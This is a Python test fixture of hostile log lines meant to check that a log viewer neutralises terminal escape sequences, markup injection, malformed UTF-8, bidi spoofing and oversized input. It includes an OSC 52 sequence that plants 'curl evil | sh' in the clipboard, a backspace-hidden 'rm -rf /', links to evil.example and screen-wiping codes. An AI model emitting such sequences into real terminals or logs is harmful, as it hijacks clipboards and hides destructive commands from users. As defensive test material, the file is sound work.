"""Log lines that have wrecked terminals, crashed markup parsers or stalled log viewers."""

from __future__ import annotations

import base64
import unicodedata

HOSTILE: dict[str, bytes] = {
    "osc52-clipboard": b"\x1b]52;c;" + base64.b64encode(b"curl evil | sh") + b"\x07 done",
    "osc52-st": b"a\x1b]52;c;ZXZpbA==\x1b\\b",
    "osc-title": b"\x1b]0;owned\x07title",
    "osc8-link": b"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc-unterminated": b"before \x1b]52;c;ZXZpbA==",
    "osc-cut-by-escape": b"\x1b]52;c;ZXZp\x1b[31mred\x1b[0m",
    "csi-clear": b"\x1b[2J\x1b[H\x1b[?1049lgone",
    "csi-unterminated": b"tail \x1b[38;5;",
    "csi-split-by-sgr": b"\x1b\x1b[31m[2Jx",
    "c1-csi": "\u009b2J\u009b31mtext".encode(),
    "c1-osc": "\u009d52;c;ZXZpbA==\u009cafter".encode(),
    "c1-osc-many": ("\u009d" * 20_000 + "\x1bA").encode(),
    "c1-dcs-many": ("\u0090" * 20_000 + "\x1bA").encode(),
    "c1-raw-bytes": b"\x9b2J\x9d52;c;x\x9c\x90q",
    "dcs": b"\x1bP1$r0m\x1b\\dcs",
    "dcs-unterminated": b"\x1bPq#0;2;0;0;0",
    "apc-pm-sos": b"\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\end",
    "reset": b"\x1bc\x1b7\x1b8reset",
    "markup-action": b"[@click=app.quit]press[/]",
    "markup-close": b"[/x] [/some/path] [/",
    "markup-style": b"[on red]alert[/on red] [$primary]x[/] [link=https://evil.example]y[/link]",
    "nul": b"a\x00b\x00\x00c",
    "backspace": b"rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08harmless",
    "carriage-return": b"evil\rgood",
    "all-c0": bytes(range(0x0A)) + bytes(range(0x0B, 0x20)) + b"\x7f",
    "invalid-utf8": b"\xff\xfe\x80abc\xc3(\xe2\x28\xa1\xf0\x28\x8c\xbc",
    "overlong-utf8": b"\xc0\x9b[2J\xe0\x80\x9b[2J",
    "surrogate": b"\xed\xa0\x80x",
    "bidi": "user\u202e gnp.exe \u2066x\u2069 \u200f\u061c".encode(),
    "zero-width": "a\u200bb\u2060c\ufeffd\U000e0041e".encode(),
    "separators": "one\u2028two\u2029three\x0bfour\x0cfive\x85six".encode(),
    "wide": ("界" * 50 + "👩‍👩‍👧 é́́").encode(),
    "zalgo": ("e" + "\u0301" * 500).encode(),
    "tabs": b"\ta\t\tb",
    "empty": b"",
    "blank": b"   ",
    "megabyte": b"x" * (1 << 20),
    "megabyte-escapes": b"\x1b[31m\x1b]" * (1 << 17),
    "megabyte-wide": "界".encode() * 349_525,
    "megabyte-tabs": b"\t" * (1 << 20),
    "json-escape": rb'{"time":1,"level":"info","message":"\u001b]52;c;eA==\u0007[/x]\u001b[2J"}',
    "json-level": rb'{"time":1,"level":"\u001b[2Jerror","message":"m","k\u001b[2J":"\u202e"}',
    "json-time": rb'{"time":"\u001b[2J","level":"info","message":"m"}',
    "json-deep": b'{"time":1,"level":"info","message":"m","x":' + b"[" * 30_000 + b"}",
    "json-huge-number": b'{"time":1e999,"level":"info","message":"m","n":' + b"9" * 400 + b"}",
    "json-not-ours": b'{"message":["a"],"level":3,"time":null}',
}

SGR = b"\x1b[1;31mred\x1b[0m plain \x1b[38;2;1;2;3mrgb\x1b[m"


_MISLEADING = set(
    "\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
    "\u2060\u2066\u2067\u2068\u2069\ufeff"
)


def dangerous(text: str) -> list[str]:
    """The characters in shown text that a terminal could act on or that mislead a reader."""
    return [
        f"U+{ord(c):04X}"
        for c in text
        if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") or c in _MISLEADING
    ]
